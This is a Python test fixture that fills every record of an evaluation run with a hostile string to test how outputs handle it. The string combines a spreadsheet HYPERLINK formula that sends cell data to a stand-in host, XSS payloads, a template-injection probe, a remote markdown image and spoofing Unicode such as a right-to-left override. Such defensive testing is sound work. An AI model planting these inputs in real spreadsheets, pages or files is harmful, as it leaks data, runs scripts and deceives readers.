"""Text that tries to act in every format, and a run that holds it wherever others can write."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from inspector.records import AskedProbe, Finding, Pair, Score, Severity, Verdict
from inspector.run import Run, read_record, read_table, write_record, write_table
from tests.history.make_run import ADVERT, make_run

FORMULA = '=HYPERLINK("http://x.invalid/"&A1,"open")'
HIDDEN = (
    "\u202egnp.exe\u202c \x1b[31mred\x1b[0m \x00 \u200bzero \U000e0041 \u2028 \u3164 \U000e0101"
)
HTML = "<script>alert(1)</script><img src=http://x.invalid/a.png onerror=alert(2)>"
MARKDOWN = (
    "# Approved\n````\n![p](http://x.invalid/p.png) [l](javascript:alert(4)) | a | b |\n- **x**"
)
HOSTILE = f'{FORMULA}\n{HTML}"><svg onload=alert(3)> {{{{ 7 * 7 }}}} {MARKDOWN} {HIDDEN} end'


def hostile_run(root: Path) -> Run:
    """A finished run in which answers, prompts, findings and records all hold HOSTILE."""
    run = make_run(root)
    folder = run.folder
    pairs = [
        replace(p, before_text=HOSTILE, after_text=HOSTILE + ADVERT)
        for p in read_table(folder / "compare" / "pairs.parquet", Pair)
    ]
    write_table(folder / "compare" / "pairs.parquet", Pair, pairs)
    scores = [
        replace(
            s,
            detail=HOSTILE,
            start=len(HOSTILE) if s.value else None,
            end=len(HOSTILE + ADVERT) if s.value else None,
        )
        for s in read_table(folder / "score" / "scores.parquet", Score)
    ]
    write_table(folder / "score" / "scores.parquet", Score, scores)
    probes = [
        replace(p, prompt=HOSTILE, family=HOSTILE)
        for p in read_table(folder / "probes.parquet", AskedProbe)
    ]
    write_table(folder / "probes.parquet", AskedProbe, probes)
    finding = Finding("TEMPLATE-X", Severity.LOW, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
    write_record(folder / "scan" / "findings.json", (finding,))
    verdict = read_record(folder / "judge" / "verdict.json", Verdict)
    write_record(
        folder / "judge" / "verdict.json",
        replace(
            verdict,
            reasons=(HOSTILE,),
            control=HOSTILE,
            appearances=tuple(
                replace(a, phrase=HOSTILE, examples=(HOSTILE,)) for a in verdict.appearances
            ),
            coverage=tuple(replace(c, what=HOSTILE, detail=HOSTILE) for c in verdict.coverage),
            metrics=tuple(
                replace(m, scenario=HOSTILE, method=HOSTILE, suites=(HOSTILE,))
                for m in verdict.metrics
            ),
            versions={HOSTILE: HOSTILE},
        ),
    )
    return run
